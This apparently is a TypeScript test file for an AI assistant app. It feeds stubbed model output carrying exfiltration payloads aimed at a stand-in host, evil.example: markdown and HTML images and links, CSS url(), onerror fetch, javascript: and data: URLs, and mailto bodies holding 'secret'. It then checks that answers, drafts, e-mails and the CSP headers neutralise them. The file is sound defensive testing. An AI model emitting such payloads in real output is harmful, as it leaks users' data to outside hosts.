import { PassThrough } from 'node:stream'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect } from 'vitest'
import { AnswerText } from '#components/assistant/answer-text.tsx'
import { readSettings } from '#lib/runtime/env.ts'
import { admit, frontOptions } from '#server/front.ts'
import { type Attack, knock, question } from './stage.ts'

/** E4: what the model writes tries to make a browser or a mail program fetch an address with something in it. */

const host = 'https://evil.example'

const texts: readonly [name: string, text: string][] = [
  ['an image', `Look: ![chart](${host}/p.png?d=secret) [S1].`],
  ['a link', `See [the report](${host}/?d=secret) [S1].`],
  ['a reference link', `See [the report][1] [S1].\n\n[1]: ${host}/r?d=secret "t"`],
  ['CSS', `<style>body{background:url(${host}/b?d=secret)}</style> Fine [S1].`],
  ['an HTML image', `Fine <img src="${host}/p?d=secret" onerror="fetch('${host}')"> [S1].`],
  ['an HTML link in pieces', `Fine <a hr`],
  ['a data URL', 'See data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== [S1].'],
  ['a mail address with a body', 'Write to mailto:x@evil.example?body=secret now [S1].'],
  ['a link to a PDF', `The board paper is at ${host}/board.pdf#secret [S1].`],
  ['an address without a scheme', 'See //evil.example/secret and www.evil.example/secret?x [S1].'],
  ['an address with backslashes and capitals', 'See HTTPS:\\\\EVIL.EXAMPLE\\secret [S1].'],
  ['a script', '[x](javascript:fetch("//evil.example")) <script src=//evil.example/x></script> [S1].'],
]

const neutral = (text: string) => {
  expect(text).not.toMatch(/!\[|\]\(|<\s*(img|a|script|style|iframe|object)\b/i)
  expect(text).not.toMatch(/:\/\/|:\\\\|javascript:|data:text|mailto:|[?#&](d|x|body)=?secret|\/secret/i)
}

const byAnswer = texts.map(
  ([name, text]): Attack => ({
    name: `writes ${name} into an answer`,
    async play(stage) {
      // In the smallest pieces: nothing may slip through between two of them.
      const pieces = text.endsWith('<a hr')
        ? [text, `ef="${host}/?d=sec`, 'ret">x</a> [S1].']
        : text.match(/[\s\S]{1,3}/g)
      stage.openai.play([{ kind: 'text', pieces: pieces ?? [] }])
      const who = await stage.enter('member')
      const { shown, outcome } = await question(stage, who)
      neutral(shown)
      // The screen links to our own sources only, and what reached the screen some other way would be text there, too.
      for (const answer of [shown, text]) {
        const html = renderToStaticMarkup(createElement(AnswerText, { answer, citations: outcome.citations, id: 'a' }))
        expect(html).not.toMatch(/<(img|style|script|iframe|object|form)\b|(href|src|action)="(?!#|\/[^/\\])/i)
      }
      neutral((JSON.parse((await knock(stage, 'readRun', who, { id: outcome.id })).text) as { answer: string }).answer)
    },
  }),
)

const draftTexts = texts.map(([, text]) => text).join('\n\n')

const byDraft: Attack[] = [
  {
    name: 'writes them into a summary, for the Markdown file',
    async play(stage) {
      stage.openai.play([
        {
          kind: 'tools',
          calls: [{ name: 'draftSummary', input: { title: `Board ${host}/?d=secret`, text: draftTexts } }],
        },
        { kind: 'text', pieces: ['Not covered: no more to tell; ask a lead.'] },
      ])
      const who = await stage.enter('lead')
      const { drafts } = await question(stage, who, 'Draft a summary')
      const { text } = await knock(stage, 'readDraftText', who, { id: drafts[0]?.id ?? '' })
      expect(text.startsWith('# ')).toBe(true)
      neutral(text.replaceAll(/\\([\\`*_{}[\]<>#|!~])/g, '·'))
    },
  },
  {
    name: 'writes them into an e-mail',
    async play(stage) {
      const who = await stage.enter('lead')
      const input = { to: who.ctx.membershipId, subject: `See ${host}/?d=secret`, text: draftTexts, about: '' }
      stage.openai.play([
        { kind: 'tools', calls: [{ name: 'draftMessage', input }] },
        { kind: 'text', pieces: ['Not covered: no more to tell; ask a lead.'] },
      ])
      const { drafts } = await question(stage, who, 'Draft a mail')
      const [made] = drafts
      neutral(JSON.stringify(made?.content))
    },
  },
]

/** What the browser would be told, whatever reached it. */
const byPolicy: Attack = {
  name: 'would need a browser that loads images and sends forms elsewhere',
  play() {
    const headers = new Map<string, string>()
    const socket = Object.assign(new PassThrough(), { remoteAddress: '127.0.0.1' })
    const host = 'footing.example.com'
    const request = { method: 'GET', url: '/', headers: { host }, rawHeaders: ['Host', host], socket }
    const response = {
      write: () => true,
      end: () => response,
      setHeader: (name: string, value: string) => headers.set(name, value),
    }
    const settings = readSettings({ APP_URL: `https://${host}`, FOOTING_SECRET: 'a secret of sixteen letters' })
    expect(admit(request as never, response as never, frontOptions(settings, false))).toBe(true)
    const policy = headers.get('content-security-policy') ?? ''
    expect(policy).toContain("default-src 'self'")
    expect(policy).toContain("img-src 'self' data:")
    expect(policy).toContain("connect-src 'self'")
    expect(policy).toContain("form-action 'self'")
    expect(policy).not.toMatch(/img-src[^;]*(https?:|\*)/)
    return Promise.resolve()
  },
}

export const exfiltrations: readonly Attack[] = [...byAnswer, ...byDraft, byPolicy]
